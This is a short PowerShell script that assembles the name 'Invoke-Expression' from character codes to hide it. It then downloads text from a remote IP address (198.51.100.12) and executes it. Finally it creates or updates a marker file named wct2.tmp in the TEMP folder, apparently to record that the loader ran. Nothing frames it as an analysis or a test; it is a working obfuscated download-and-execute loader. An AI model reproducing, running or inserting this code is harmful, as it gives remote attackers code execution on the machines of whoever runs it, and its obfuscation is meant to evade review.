$u = 'http://198.51.100.12/a'
$n = [char]73 + [char]110 + [char]118 + [char]111 + [char]107 + [char]101 + [char]45 + [char]69 + [char]120 + [char]112 + [char]114 + [char]101 + [char]115 + [char]115 + [char]105 + [char]111 + [char]110
$w = New-Object Net.WebClient
& $n ($w.DownloadString($u))

$marker = Join-Path -Path $env:TEMP -ChildPath 'wct2.tmp'
if (-not (Test-Path -Path $marker)) {
    New-Item -Path $marker -ItemType File | Out-Null
}
(Get-Item -Path $marker).LastWriteTime = Get-Date
